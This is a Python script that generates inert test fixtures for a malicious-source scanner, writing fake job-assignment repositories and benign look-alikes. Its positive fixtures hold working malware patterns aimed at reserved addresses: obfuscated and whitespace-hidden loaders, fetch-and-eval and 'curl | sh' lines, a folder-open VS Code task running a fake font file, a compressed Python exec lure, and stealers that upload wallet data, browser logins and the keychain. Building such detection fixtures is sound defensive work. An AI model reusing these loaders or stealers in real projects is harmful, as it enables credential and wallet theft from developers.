#!/usr/bin/env python3
"""Generate the inert source-analysis fixtures (issue 4): fixtures/rules/<source rule>/ cases and fixtures/repos/ lures and
benign look-alikes. Payload hosts are reserved (203.0.113.0/24, 198.51.100.0/24, *.invalid). Re-running rewrites only our rows."""
import os, base64, zlib, json
R=os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fixtures", "rules")
def w(path, text):
    p=os.path.join(R,path); os.makedirs(os.path.dirname(p),exist_ok=True)
    open(p,'w').write(text)
def b64(s): return base64.b64encode(s.encode()).decode()

# ---- remote-code-execution
url='http://203.0.113.7:1224/api/service/token'
enc=b64(url); junk=enc[:10]+'sot'+enc[10:]
w('remote-code-execution/positive/error-body-function-constructor/.env', f'PORT=3000\nDEV_API_KEY="{junk}"\n')
w('remote-code-execution/positive/error-body-function-constructor/expect.json','{"minSeverity":"critical"}\n')
w('remote-code-execution/positive/error-body-function-constructor/package.json', json.dumps({"name":"fixture-rce","version":"1.0.0","main":"server/controllers/auth.js"},indent=2)+'\n')
w('remote-code-execution/positive/error-body-function-constructor/server/controllers/auth.js', '''const axios = require("axios");

// Inert fixture: the payload host is a documentation address.
const getCookie = async () => {
  const src = atob(process.env.DEV_API_KEY.replace("sot", ""));
  try {
    await axios.get(src, { headers: { "x-secret-header": "secret" } });
  } catch (err) {
    errorHandler(err.response.data);
  }
};

const errorHandler = (error) => {
  const createHandler = (errCode) => {
    const handler = new (Function.constructor)("require", errCode);
    return handler;
  };
  const handlerFunc = createHandler(error);
  handlerFunc(require);
};

module.exports = { getCookie };
getCookie();
''')
w('remote-code-execution/positive/fetch-then-eval/index.mjs', '''const base = "https://cdn-assets.invalid/api/v1/bootstrap";
export async function boot() {
  const res = await fetch(base);
  const body = await res.text();
  eval(body);
}
boot();
''')
w('remote-code-execution/positive/new-function-require/lib/loader.js', '''module.exports = function load(code) {
  return new Function("require", "module", code)(require, module);
};
''')
w('remote-code-execution/positive/request-callback-in-test-folder/app/index.js', 'const express = require("express");\nrequire("./test");\nmodule.exports = express();\n')
w('remote-code-execution/positive/request-callback-in-test-folder/app/test/index.js', '''const req = require("request");
describe("posts", () => { it("lists", (done) => done()); });
const url = `https://${"api"}.${"status-check.invalid"}/v1/${"token"}`;const options={url:url,headers:{'x-secret-header':'secret'}};req(options,(e,r,b)=>{if(e){return;}try{eval(JSON.parse(b));}catch(err){;}});
''')
w('remote-code-execution/positive/request-callback-in-test-folder/expect.json','{"minSeverity":"critical"}\n')
w('remote-code-execution/negative/bundle-return-this/dist/main.js', '''/*! app bundle */
(()=>{var __webpack_modules__={};function __webpack_require__(id){return __webpack_modules__[id]()}
__webpack_require__.g=function(){if("object"==typeof globalThis)return globalThis;try{return this||new Function("return this")()}catch(e){if("object"==typeof window)return window}}();
})();
''')
w('remote-code-execution/negative/template-engine/src/template.js', '''// A tiny template engine: it builds functions from templates the app itself ships.
function compile(template) {
  const body = "return `" + template.replace(/`/g, "\\\\`") + "`;";
  return new Function("data", body);
}
export function render(template, data) {
  return compile(template)(data);
}
''')
w('remote-code-execution/negative/vm-literal-test/test/sandbox.test.js', '''const vm = require("vm");
const assert = require("assert");
describe("sandbox", () => {
  it("adds", () => {
    assert.equal(vm.runInNewContext("1 + 1"), 2);
  });
});
''')
w('remote-code-execution/negative/execfile-git/scripts/version.js', '''const { execFileSync } = require("child_process");
const sha = execFileSync("git", ["rev-parse", "HEAD"], { encoding: "utf8" }).trim();
const res = fetch("https://api.github.com/repos/example/example");
console.log(sha, res);
''')

# ---- import-time-network
iurl='https://auth-verify.invalid/api/ipcheck/7'
w('import-time-network/positive/route-verify-token/.env', f'AUTH_API={b64(iurl)}\n')
w('import-time-network/positive/route-verify-token/routes/auth.js', '''const express = require("express");
const axios = require("axios");
const router = express.Router();

const verifyToken = async () => {
  const { data } = await axios.get(atob(process.env.AUTH_API));
  return data;
};
verifyToken();

router.post("/login", (req, res) => res.json({ ok: true }));
module.exports = router;
''')
w('import-time-network/positive/iife-bootstrap/src/bootstrap.ts', '''import axios from "axios";

(async () => {
  const r = await axios.post("https://telemetry.invalid/boot", { ts: Date.now() });
  console.log(r.status);
})();
''')
w('import-time-network/negative/handler-network/server.js', '''const express = require("express");
const axios = require("axios");
const app = express();

app.get("/price", async (req, res) => {
  const { data } = await axios.get("https://api.coingecko.com/api/v3/ping");
  res.json(data);
});

class Client {
  async load() {
    return fetch("https://api.example.com/items");
  }
}

export async function refresh() {
  return fetch("https://api.example.com/refresh");
}

app.listen(3000, async () => {
  await fetch("https://hooks.example.com/started");
});
module.exports = { app, Client };
''')

w('import-time-network/positive/cross-file-helper/package.json', json.dumps({"name":"fixture-cross-file","version":"1.0.0","main":"app.js","scripts":{"start":"node app.js"}},indent=2)+'\n')
w('import-time-network/positive/cross-file-helper/.env', f'SYNC_URL={b64("http://198.51.100.12:1224/api/checkStatus")}\n')
w('import-time-network/positive/cross-file-helper/app.js', '''const { syncSettings } = require("./services/settings");
syncSettings();
module.exports = {};
''')
w('import-time-network/positive/cross-file-helper/services/settings.js', '''const axios = require("axios");
async function syncSettings() {
  const { data } = await axios.get(Buffer.from(process.env.SYNC_URL, "base64").toString());
  return data;
}
module.exports = { syncSettings };
''')

# ---- env-exfiltration
w('env-exfiltration/positive/env-post/src/telemetry.js', '''const axios = require("axios");
async function report() {
  await axios.post("https://metrics.invalid/collect", { ...process.env }, { headers: { "x-secret-key": "k" } });
}
module.exports = { report };
''')
w('env-exfiltration/positive/env-stringify/src/sync.js', '''const https = require("https");
const body = JSON.stringify(process.env);
const req = https.request({ host: "198.51.100.4", path: "/e", method: "POST" });
req.write(body);
https.get("https://198.51.100.4/keys?d=" + body);
''')
w('env-exfiltration/negative/env-port/server.js', '''const port = process.env.PORT || 3000;
const url = process.env.DATABASE_URL;
async function ping() {
  return fetch("https://status.example.com/ping", { method: "POST", body: JSON.stringify({ port }) });
}
module.exports = { ping, url };
''')

# ---- encoded-c2-config
w('encoded-c2-config/positive/env-base64-c2/.env', f'NODE_ENV=development\nDEV_API_KEY={b64("http://198.51.100.23:1224/pdown")}\n')
w('encoded-c2-config/positive/env-base64-c2/expect.json','{"minSeverity":"critical"}\n')
w('encoded-c2-config/positive/hex-require/src/util.js', '''const key = Buffer.from("72657175697265", "hex").toString();
const load = global[key];
module.exports = load;
''')
w('encoded-c2-config/negative/env-plain/.env', '''PORT=3000
DATABASE_URL=postgres://user:pass@localhost:5432/app
JWT_SECRET=9f8Kq2LmZx7Rt4Vb1Nc6Hy3Pw0Sd5Ge8
PUBLIC_LOGO=aW1hZ2UvcG5n
''')
w('encoded-c2-config/negative/env-plain/config/default.json', '{ "api": "https://api.example.com", "token": "c2VjcmV0LXRva2VuLXZhbHVl" }\n')

# ---- offscreen-code
hidden='eval(atob("Y29uc29sZS5sb2coJ2hpZGRlbicp"));require("child_process").exec("curl -s http://203.0.113.8/p | sh")'
w('offscreen-code/positive/router-spaces/routes/index.js', 'const express = require("express");\nconst router = express.Router();\nrouter.get("/", (req, res) => res.send("ok"));\nmodule.exports = router;' + ' '*420 + hidden + '\n')
w('offscreen-code/positive/tasks-json/.vscode/tasks.json', '{\n  "version": "2.0.0",\n  "tasks": [\n    {\n      "label": "build",\n      "type": "shell",\n      "command": "npm run build"' + ' '*300 + '&& node public/fonts/fa-brands.woff2",\n      "group": "build"\n    }\n  ]\n}\n')
w('offscreen-code/positive/blank-lines/src/app.js', 'export const ok = true;\n' + '\n'*150 + 'require("child_process").exec("node .cache/x.js");\n')
w('offscreen-code/negative/aligned-code/src/table.js', '''// Columns aligned with a few spaces are fine.
const sizes = {
  small:      12,
  medium:     16,
  large:      24,
};
module.exports = sizes;
''')
w('offscreen-code/negative/minified/dist/app.min.js', '!function(e){var t={};function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,l:!1,exports:{}};return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}n.m=e,n.c=t}([function(e,t){e.exports="ok"}]);\n' * 3)

# ---- config-injection
w('config-injection/positive/tailwind-polinrider/tailwind.config.js', '''/** @type {import('tailwindcss').Config} */
module.exports = {
  content: ["./src/**/*.{js,jsx}"],
  theme: { extend: {} },
  plugins: [],
};
global['!']='8-905-1';var _$_1e42=(function(l,e){var h=l.length;var g=[];for(var j=0;j< h;j++){g[j]= l.charAt(j)};for(var j=0;j< h;j++){var s=e* (j+ 489)+ (e% 19597);var w=e* (j+ 659)+ (e% 48014);var t=s% h;var p=w% h;var y=g[t];g[t]= g[p];g[p]= y;e= (s+ w)% 4573868};return g.join('')})("rmcej%otb%",2857687);global[_$_1e42[0]]=require;
''')
w('config-injection/positive/tailwind-polinrider/expect.json','{"minSeverity":"critical"}\n')
w('config-injection/positive/next-config-tron/next.config.js', '''const https = require("https");
/** @type {import('next').NextConfig} */
const nextConfig = { reactStrictMode: true };
https.get("https://api.trongrid.io/v1/accounts/TXfxHUet9pJVU1BgVkBAbrES4YUc1nGzcG/transactions?limit=1", (res) => {
  let d = "";
  res.on("data", (c) => (d += c));
  res.on("end", () => eval(Buffer.from(JSON.parse(d).data[0].raw_data.data, "hex").toString()));
});
module.exports = nextConfig;
''')
w('config-injection/positive/font-polinrider/public/fonts/fa-solid-400.woff2', "global['!']='8-905-1';var _$_1e42=(function(l,e){var h=l.length;var g=[];for(var j=0;j< h;j++){g[j]= l.charAt(j)};return g.join('')})(\"rmcej%otb%\",2857687);" + "var _$_a=" + "1,".join(str(i) for i in range(700)) + "0;\n")
w('config-injection/positive/font-polinrider/expect.json','{"minSeverity":"critical"}\n')
w('config-injection/negative/plain-configs/tailwind.config.js', 'module.exports = { content: ["./src/**/*.{ts,tsx}"], theme: { extend: { colors: { brand: "#123456" } } }, plugins: [] };\n')
w('config-injection/negative/plain-configs/vite.config.mjs', '''import { defineConfig } from "vite";
import { createRequire } from "node:module";
const require = createRequire(import.meta.url);
const pkg = require("./package.json");
export default defineConfig({ define: { __VERSION__: JSON.stringify(pkg.version) } });
''')
w('config-injection/negative/plain-configs/package.json', '{ "name": "plain", "version": "1.0.0" }\n')

# ---- obfuscated-source
ALPH='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/='
STD='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/='
def obf(s):
    e=base64.b64encode(s.encode()).decode().rstrip('=')
    return ''.join(ALPH[STD.index(c)] for c in e)
strs=['child_process','exec','http://203.0.113.10:1224/client/9/41','platform','homedir','tmpdir','writeFileSync','log','length','push','shift','toString','get','data','curl -Ls ','replace']
tbl=','.join("'"+obf(s)+"'" for s in strs)
w('obfuscated-source/positive/obfuscated-loader/src/middleware/session.js', f'''const express = require('express');
function _0x3c1d(){{const _0x5a2e=[{tbl}];_0x3c1d=function(){{return _0x5a2e;}};return _0x3c1d();}}
function _0x1f4b(_0x2a11,_0x4b9c){{const _0x3e07=_0x3c1d();return _0x1f4b=function(_0x1c7a,_0x2d3f){{_0x1c7a=_0x1c7a-0x0;let _0x55e1=_0x3e07[_0x1c7a];return _0x55e1;}},_0x1f4b(_0x2a11,_0x4b9c);}}
(function(_0x41b2,_0x1e9d){{const _0x2f6a=_0x1f4b,_0x3b0e=_0x41b2();while(!![]){{try{{const _0x4c59=parseInt(_0x2f6a(0x3))/0x1+-parseInt(_0x2f6a(0x4))/0x2;if(_0x4c59===_0x1e9d)break;else _0x3b0e['push'](_0x3b0e['shift']());}}catch(_0x27c1){{_0x3b0e['push'](_0x3b0e['shift']());}}}}}}(_0x3c1d,0x2a1b3));
const _0x6d1e=require(_0x1f4b(0x0));const _0x7aa2=_0x1f4b(0x2);_0x6d1e[_0x1f4b(0x1)](_0x1f4b(0xe)+_0x7aa2+' | sh');
module.exports = function session(req, res, next) {{ next(); }};
''')
w('obfuscated-source/negative/minified-bundle/dist/vendor.min.js', ('var a=function(e,t){return e+t},b=function(e){for(var t=0,n=0;n<e.length;n++)t+=e.charCodeAt(n);return t};module.exports={a:a,b:b,c:"\\x41\\x42"};' * 30) + '\n')
w('obfuscated-source/negative/escaped-unicode-table/src/charset.js', '''// A small lookup table with a handful of escapes is not obfuscation.
export const controls = ["\\x00", "\\x07", "\\x1b", "\\x7f"];
export const names = { nul: 0, bel: 7, esc: 27, del: 127 };
export function isControl(ch) { return controls.includes(ch) || eval === undefined; }
''')

# ---- python-lure
inner="import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.9:1224/client/5/7').read())\n"
payload=base64.b64encode(zlib.compress(inner.encode())).decode()[::-1]
w('python-lure/positive/exec-zlib-b64-reversed/test_assignment.py', f'''"""Pre-employment test: run this script and paste the output."""
import base64
import zlib

_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
PAYLOAD = "{payload}"
exec(zlib.decompress(base64.b64decode(PAYLOAD[::-1])))
''')
w('python-lure/positive/exec-zlib-b64-reversed/expect.json','{"minSeverity":"critical"}\n')
w('python-lure/positive/setup-cmdclass/setup.py', '''from setuptools import setup
from setuptools.command.install import install
import requests

class PostInstall(install):
    def run(self):
        install.run(self)

r = requests.get("http://198.51.100.77/api/ipcheck/1")
open(__import__("os").path.expanduser("~/.n2/way"), "w").write(r.text)

setup(name="helper-utils", version="0.1", cmdclass={"install": PostInstall})
''')
w('python-lure/positive/pip-at-runtime/app/__init__.py', '''import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "pycryptodome", "requests"])
''')
w('python-lure/negative/pickle-local-model/predict.py', '''import pickle
import requests

with open("models/classifier.pkl", "rb") as fh:
    model = pickle.load(fh)

def fetch_prices(symbol):
    return requests.get(f"https://api.example.com/prices/{symbol}").json()

if __name__ == "__main__":
    print(model.predict([[1, 2, 3]]))
''')
w('python-lure/negative/yaml-safe/config_loader.py', '''import yaml, base64
def load(path):
    with open(path) as fh:
        return yaml.load(fh, Loader=yaml.SafeLoader)
LOGO = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")
''')

# ---- stealer-fingerprint
w('stealer-fingerprint/positive/wallet-stealer/lib/sync.js', '''const fs = require("fs");
const os = require("os");
const path = require("path");
const FormData = require("form-data");
const axios = require("axios");

const wallets = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa", "hnfanknocfeofbddgcijnmhnfnkdnaad", "ibnejdfjmmkpcnlpebklmnkoeoihofec"];
const base = path.join(os.homedir(), "Library/Application Support/Google/Chrome/Default");

async function sync() {
  const form = new FormData();
  for (const id of wallets) {
    const dir = path.join(base, "Local Extension Settings", id);
    if (fs.existsSync(dir)) for (const f of fs.readdirSync(dir)) form.append("files", fs.createReadStream(path.join(dir, f)));
  }
  form.append("login", fs.createReadStream(path.join(base, "Login Data")));
  await axios.post("http://203.0.113.5:1224/uploads", form);
}
module.exports = sync;
''')
w('stealer-fingerprint/positive/wallet-stealer/expect.json','{"minSeverity":"critical"}\n')
w('stealer-fingerprint/negative/dapp-links/src/wallets.ts', '''export const SUPPORTED_WALLETS = [
  { name: "MetaMask", install: "https://chromewebstore.google.com/detail/metamask/nkbihfbeogaeaoehlefnkodbefgpgknn" },
  { name: "Phantom", install: "https://chromewebstore.google.com/detail/phantom/bfnaelmomeimhlpmgjnjophhpkkoljpa" },
  { name: "Coinbase Wallet", install: "https://chromewebstore.google.com/detail/coinbase-wallet-extension/hnfanknocfeofbddgcijnmhnfnkdnaad" },
];
export const RPC = "https://bsc-dataseed.binance.org";
''')

# ---- whole repositories

R=os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'fixtures', 'repos')
def w(path, text):
    p=os.path.join(R,path); os.makedirs(os.path.dirname(p),exist_ok=True)
    open(p,'w').write(text)
def b64(s): return base64.b64encode(s.encode()).decode()
def pkg(name, **kw):
    d={"name":name,"version":"1.0.0","private":True}; d.update(kw); return json.dumps(d,indent=2)+'\n'
rows=[]

# 1 lure: obfuscated middleware + base64 C2 in .env
ALPH='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/='
STD='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/='
def obf(s):
    e=base64.b64encode(s.encode()).decode().rstrip('=')
    return ''.join(ALPH[STD.index(c)] for c in e)
n='lure-obfuscated-middleware'
w(f'{n}/package.json', pkg('realestate-dashboard', main='server.js', scripts={"start":"node server.js","dev":"nodemon server.js"}, dependencies={"express":"^4.19.2","axios":"^1.7.2"}))
w(f'{n}/README.md', '# Real-estate dashboard\n\nTake-home: fix the listing filter bug. `npm i && npm start`, should take 40 minutes.\n')
w(f'{n}/server.js', '''const express = require("express");
const session = require("./middleware/session");
const app = express();
app.use(session);
app.get("/", (req, res) => res.send("ok"));
app.listen(process.env.PORT || 3000);
''')
strs=['axios','get','data','http://198.51.100.41:1224/api/service/','process','env','Function','constructor','require','then','catch','response','platform','log','toString','length']
tbl=','.join("'"+obf(s)+"'" for s in strs)
w(f'{n}/middleware/session.js', f'''function _0x2b1e(){{const _0x1a8f=[{tbl}];_0x2b1e=function(){{return _0x1a8f;}};return _0x2b1e();}}
function _0x4c3d(_0x11aa,_0x22bb){{const _0x33cc=_0x2b1e();return _0x4c3d=function(_0x44dd,_0x55ee){{_0x44dd=_0x44dd-0x0;let _0x66ff=_0x33cc[_0x44dd];if(_0x4c3d['kTqWzb']===undefined){{var _0x7e1f=function(_0x2d1c){{const _0x1b5a='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';let _0x3a9e='',_0x5f7b='';for(let _0x1c2d=0x0,_0x4e6f,_0x2a8b,_0x6c1d=0x0;_0x2a8b=_0x2d1c['charAt'](_0x6c1d++);~_0x2a8b&&(_0x4e6f=_0x1c2d%0x4?_0x4e6f*0x40+_0x2a8b:_0x2a8b,_0x1c2d++%0x4)?_0x3a9e+=String['fromCharCode'](0xff&_0x4e6f>>(-0x2*_0x1c2d&0x6)):0x0){{_0x2a8b=_0x1b5a['indexOf'](_0x2a8b);}}for(let _0x3f1e=0x0,_0x5b2c=_0x3a9e['length'];_0x3f1e<_0x5b2c;_0x3f1e++){{_0x5f7b+='%'+('00'+_0x3a9e['charCodeAt'](_0x3f1e)['toString'](0x10))['slice'](-0x2);}}return decodeURIComponent(_0x5f7b);}};_0x4c3d['NrjQxU']=_0x7e1f;_0x4c3d['kTqWzb']=!![];}}_0x66ff=_0x4c3d['NrjQxU'](_0x66ff);return _0x66ff;}},_0x4c3d(_0x11aa,_0x22bb);}}
(function(_0x5e1a,_0x2c4b){{const _0x3d9c=_0x4c3d,_0x1f7e=_0x5e1a();while(!![]){{try{{const _0x48a1=parseInt(_0x3d9c(0x2))/0x1+-parseInt(_0x3d9c(0x3))/0x2;if(_0x48a1===_0x2c4b)break;else _0x1f7e['push'](_0x1f7e['shift']());}}catch(_0x2e9f){{_0x1f7e['push'](_0x1f7e['shift']());}}}}}}(_0x2b1e,0x3f1a2));
const _0x7b2c=require(_0x4c3d(0x0));
_0x7b2c[_0x4c3d(0x1)](atob(process.env.SESSION_STORE)).then(_0x9a1b=>{{}}).catch(_0x3f2d=>{{const _0x5c7e=_0x3f2d[_0x4c3d(0xb)][_0x4c3d(0x2)];new Function(_0x4c3d(0x8),_0x5c7e)(require);}});
module.exports = function session(req, res, next) {{ next(); }};
''')
w(f'{n}/.env', f'PORT=3000\nSESSION_STORE={b64("http://198.51.100.41:1224/api/service/token/7f3a")}\n')
rows.append((n,'block','obfuscated middleware: _0x string table hides a port-1224 C2, error body to new Function(require); C2 base64 in .env'))

# 2 lure: error-body loader + env theft, base64 C2 with junk token
n='lure-env-base64-c2'
url='http://203.0.113.44:1224/api/ip-check-encrypted/3aeb7f'
enc=b64(url); junk=enc[:12]+'sot'+enc[12:]
w(f'{n}/package.json', pkg('crypto-trading-bot', main='index.js', scripts={"start":"node index.js"}, dependencies={"express":"^4.19.2","axios":"^1.7.2","dotenv":"^16.4.5"}))
w(f'{n}/.env', f'# exchange settings\nEXCHANGE=binance\nDEV_API_KEY="{junk}"\nPORT=8080\n')
w(f'{n}/index.js', '''require("dotenv").config();
const express = require("express");
const { getCookie } = require("./server/controllers/userController");
const app = express();
app.use(express.json());
getCookie();
app.listen(process.env.PORT);
''')
w(f'{n}/server/controllers/userController.js', '''const axios = require("axios");

const getCookie = async () => {
  const src = atob(process.env.DEV_API_KEY.replace("sot", ""));
  const payload = { ...process.env };
  try {
    await axios.post(src, payload, { headers: { "x-secret-header": "secret" } });
  } catch (err) {
    errorHandler(err.response.data);
  }
};

const errorHandler = (error) => {
  const createHandler = (errCode) => {
    const handler = new (Function.constructor)("require", errCode);
    return handler;
  };
  const handlerFunc = createHandler(error);
  handlerFunc(require);
};

module.exports = { getCookie };
''')
rows.append((n,'block','.env DEV_API_KEY base64 with junk token "sot" → port-1224 ipcheck C2; whole env posted; error body → Function.constructor("require")'))

# 3 lure: tailwind.config.js whitespace-hidden PolinRider loader
n='lure-tailwind-whitespace'
w(f'{n}/package.json', pkg('portfolio-next', scripts={"dev":"next dev","build":"next build"}, dependencies={"next":"14.2.3","react":"18.3.1","tailwindcss":"3.4.3"}))
loader="global['!']='8-905-1';var _$_1e42=(function(l,e){var h=l.length;var g=[];for(var j=0;j< h;j++){g[j]= l.charAt(j)};for(var j=0;j< h;j++){var s=e* (j+ 489)+ (e% 19597);var w=e* (j+ 659)+ (e% 48014);var t=s% h;var p=w% h;var y=g[t];g[t]= g[p];g[p]= y;e= (s+ w)% 4573868};return g.join('')})(\"rmcej%otb%\",2857687);global[_$_1e42[0]]=require;"
w(f'{n}/tailwind.config.js', '''/** @type {import('tailwindcss').Config} */
module.exports = {
  content: ["./app/**/*.{js,jsx}", "./components/**/*.{js,jsx}"],
  theme: { extend: {} },
  plugins: [],
};''' + ' '*480 + loader + '\n')
w(f'{n}/app/page.jsx', 'export default function Page() { return <main className="p-4">Hello</main>; }\n')
rows.append((n,'block','PolinRider loader pushed 480 columns right in tailwind.config.js: 8-905-1 marker, global[...]=require'))

# 4 lure: fake font run by a folderOpen task
n='lure-font-task-eval'
w(f'{n}/package.json', pkg('nft-marketplace', scripts={"start":"react-scripts start"}, dependencies={"react":"18.3.1"}))
w(f'{n}/.vscode/tasks.json', '''{
  // Prepare fonts on open
  "version": "2.0.0",
  "tasks": [
    {
      "label": "fonts",
      "type": "shell",
      "command": "node public/fonts/fa-solid-400.woff2",
      "runOptions": { "runOn": "folderOpen" },
      "presentation": { "reveal": "never", "echo": false, "close": true },
    },
  ],
}
''')
w(f'{n}/public/fonts/fa-solid-400.woff2', '''const h=require("https");const a=Buffer.from("aHR0cHM6Ly9hdXRoLWNvbmZpcm0uaW52YWxpZC9hcGkvaXBjaGVjay1lbmNyeXB0ZWQvODE=","base64").toString();
h.get(a,(r)=>{let d="";r.on("data",(c)=>{d+=c});r.on("end",()=>{eval(d)});});
''')
w(f'{n}/src/App.js', 'export default function App() { return null; }\n')
rows.append((n,'block','folderOpen task runs node on a .woff2 whose bytes are JS: base64 C2 (/api/ipcheck-encrypted/ grammar) fetched and eval-ed'))

# 5 lure: Python pre-employment test
n='lure-python-test'
inner="import urllib.request,os\nd=os.path.expanduser('~/.n2')\nexec(urllib.request.urlopen('http://203.0.113.61:1224/pdown').read())\n"
payload=base64.b64encode(zlib.compress(inner.encode())).decode()[::-1]
w(f'{n}/README.md', '# Python skill test\n\nRun `python test_assignment.py` and send us the output. Do not use Docker.\n')
w(f'{n}/requirements.txt', 'requests==2.32.3\n')
w(f'{n}/test_assignment.py', f'''"""Pre-employment test: implement solve() and run this file."""
import base64, os, zlib

def solve(values):
    return sorted(values)

PAYLOAD = "{payload}"
exec(zlib.decompress(base64.b64decode(PAYLOAD[::-1])))

if __name__ == "__main__":
    print(solve([3, 1, 2]))
''')
w(f'{n}/utils/sysinfo.py', '''import os, platform, requests
HOME = os.path.expanduser("~")
with open(os.path.join(HOME, ".sysinfo"), "w") as fh:
    fh.write(platform.platform())
requests.post("http://203.0.113.61:1224/keys", data={"os": platform.system()})
''')
rows.append((n,'block','exec(zlib.decompress(b64decode(x[::-1]))) decoded to a port-1224 /pdown fetch; ~/.sysinfo drop; import-time upload'))

# 6 lure: stealer called at import
n='lure-stealer'
w(f'{n}/package.json', pkg('defi-analytics', main='app.js', scripts={"start":"node app.js"}, dependencies={"axios":"^1.7.2","form-data":"^4.0.0"}))
w(f'{n}/app.js', 'require("./lib/analytics");\nconsole.log("dashboard on :3000");\n')
w(f'{n}/lib/analytics.js', '''const fs = require("fs");
const os = require("os");
const path = require("path");
const FormData = require("form-data");
const axios = require("axios");

const ids = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa", "ibnejdfjmmkpcnlpebklmnkoeoihofec", "fhbohimaelbohpjbbldcngcnapndodjp", "egjidjbpglichdcondbcbdnbeeppgdph"];
const profiles = ["Google/Chrome", "BraveSoftware/Brave-Browser"].map((b) => path.join(os.homedir(), "Library/Application Support", b, "Default"));

async function collect() {
  const form = new FormData();
  for (const p of profiles) {
    for (const id of ids) {
      const dir = path.join(p, "Local Extension Settings", id);
      if (!fs.existsSync(dir)) continue;
      for (const f of fs.readdirSync(dir)) form.append("multi_file", fs.createReadStream(path.join(dir, f)));
    }
    const login = path.join(p, "Login Data");
    if (fs.existsSync(login)) form.append("multi_file", fs.createReadStream(login));
  }
  const keychain = path.join(os.homedir(), "Library/Keychains/login.keychain-db");
  if (fs.existsSync(keychain)) form.append("multi_file", fs.createReadStream(keychain));
  await axios.post("http://198.51.100.90:1224/uploads", form, { headers: form.getHeaders() });
}
collect();
''')
rows.append((n,'block','BeaverTail-style stealer run at import: wallet extension ids + Login Data + keychain uploaded to :1224/uploads'))

# ---- benign
n='benign-webpack-bundle'
w(f'{n}/package.json', pkg('shop-frontend', scripts={"build":"webpack --mode production"}, devDependencies={"webpack":"^5.91.0"}))
w(f'{n}/src/index.js', 'import { render } from "./render";\nrender(document.getElementById("root"));\n')
w(f'{n}/src/render.js', 'export function render(el) { el.textContent = "shop"; }\n')
w(f'{n}/dist/main.js', '''/*! For license information please see main.js.LICENSE.txt */
(()=>{"use strict";var __webpack_modules__={"./src/render.js":(e,t,r)=>{eval("r.r(t);r.d(t,{render:()=>render});function render(el){el.textContent=\\"shop\\"}\\n//# sourceURL=webpack://shop/./src/render.js");}};var __webpack_module_cache__={};function __webpack_require__(e){var t=__webpack_module_cache__[e];if(void 0!==t)return t.exports;var r=__webpack_module_cache__[e]={exports:{}};return __webpack_modules__[e](r,r.exports,__webpack_require__),r.exports}__webpack_require__.g=function(){if("object"==typeof globalThis)return globalThis;try{return this||new Function("return this")()}catch(e){if("object"==typeof window)return window}}();})();
''')
w(f'{n}/dist/vendor.min.js', ('!function(e,t){"object"==typeof exports?module.exports=t():e.lib=t()}(this,function(){var e=function(){return Function("return this")()};return{g:e,f:function(n){return fetch(n).then(function(r){return r.json()})}}});' * 12) + '\n')
rows.append((n,'pass-or-warn','webpack bundle: eval of constant module strings, new Function("return this"), minified vendor with fetch'))

n='benign-template-engine'
w(f'{n}/package.json', pkg('tiny-tpl', main='src/index.js'))
w(f'{n}/src/index.js', '''const cache = new Map();
function compile(source) {
  let code = "let out = '';\\n";
  for (const part of source.split(/(\\{\\{.*?\\}\\})/)) {
    if (part.startsWith("{{")) code += "out += (" + part.slice(2, -2) + ");\\n";
    else code += "out += " + JSON.stringify(part) + ";\\n";
  }
  return new Function("it", code + "return out;");
}
function render(source, data) {
  if (!cache.has(source)) cache.set(source, compile(source));
  return cache.get(source)(data);
}
module.exports = { render, evaluate: (expr, scope) => new Function("scope", "with (scope) { return (" + expr + "); }")(scope) };
''')
rows.append((n,'pass-or-warn','template engine and expression evaluator build functions from templates, no network, no require'))

n='benign-express-handlers'
w(f'{n}/package.json', pkg('todo-api', main='server.js', scripts={"start":"node server.js"}, dependencies={"express":"^4.19.2","axios":"^1.7.2"}))
w(f'{n}/server.js', '''const express = require("express");
const axios = require("axios");
const { execFileSync } = require("child_process");
const routes = require("./routes/todos");

const app = express();
const version = execFileSync("git", ["rev-parse", "--short", "HEAD"], { encoding: "utf8" }).trim();
app.use("/todos", routes);
app.get("/weather", async (req, res) => {
  const { data } = await axios.get(`https://api.open-meteo.com/v1/forecast?latitude=${req.query.lat}`);
  res.json(data);
});
app.listen(process.env.PORT || 3000, async () => {
  await axios.post("https://hooks.example.com/deployed", { version });
});
''')
w(f'{n}/routes/todos.js', '''const router = require("express").Router();
const db = require("../config/db");
router.get("/", async (req, res) => res.json(await db.all()));
router.post("/", async (req, res) => {
  const r = await fetch(process.env.AUDIT_URL, { method: "POST", body: JSON.stringify(req.body) });
  res.status(r.status).end();
});
module.exports = router;
''')
w(f'{n}/config/db.js', 'module.exports = { all: async () => [], url: process.env.DATABASE_URL };\n')
w(f'{n}/.env', 'PORT=3000\nDATABASE_URL=postgres://todo:todo@localhost:5432/todo\nAUDIT_URL=https://audit.example.com/events\nJWT_SECRET=Zm9vYmFyYmF6cXV4cXV1eA\n')
rows.append((n,'pass-or-warn','network only in handlers and listen callback, execFileSync("git"), single env vars'))

n='benign-web3-dapp'
w(f'{n}/package.json', pkg('swap-dapp', scripts={"dev":"vite"}, dependencies={"ethers":"^6.13.0","@solana/web3.js":"^1.95.0"}))
w(f'{n}/src/config/chains.ts', '''export const CHAINS = {
  bsc: { id: 56, rpc: "https://bsc-dataseed.binance.org", explorer: "https://bscscan.com" },
  tron: { rpc: "https://api.trongrid.io" },
  aptos: { rpc: "https://fullnode.mainnet.aptoslabs.com/v1" },
};
''')
